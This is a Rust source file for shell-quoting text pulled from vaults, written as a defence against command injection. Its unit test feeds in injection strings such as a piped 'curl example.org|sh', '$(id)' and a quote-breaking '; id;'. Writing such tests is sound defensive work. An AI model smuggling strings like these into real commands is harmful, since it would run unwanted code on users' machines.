//! Text as one word of a command that people copy into a shell: names come from vaults that others may have written,
//! and a shell does as it is told.

use super::plain::plain;

/// `text` as one word: as it is where every shell takes it so, else in single quotes (POSIX, Shell Command Language,
/// 2.2.2).
pub(crate) fn shell_word(text: &str) -> String {
    let text = plain(text);
    let is_plain = |character: char| {
        character.is_ascii_alphanumeric() || matches!(character, '_' | '-' | '.' | ',' | '/' | ':' | '@' | '%' | '+')
    };
    if !text.is_empty() && text.chars().all(is_plain) {
        return text.into_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_is_told_nothing() {
        for (text, word) in [
            ("Deploy", "Deploy"),
            ("eve@example.org", "eve@example.org"),
            ("", "''"),
            ("Eve Miller", "'Eve Miller'"),
            ("x; curl example.org|sh", "'x; curl example.org|sh'"),
            ("$(id)`id`", "'$(id)`id`'"),
            ("it's", r"'it'\''s'"),
            ("'; id; '", r"''\''; id; '\'''"),
            ("~root", "'~root'"),
            ("a\u{1b}b", "'a\u{fffd}b'"),
        ] {
            assert_eq!(shell_word(text), word);
        }
    }
}
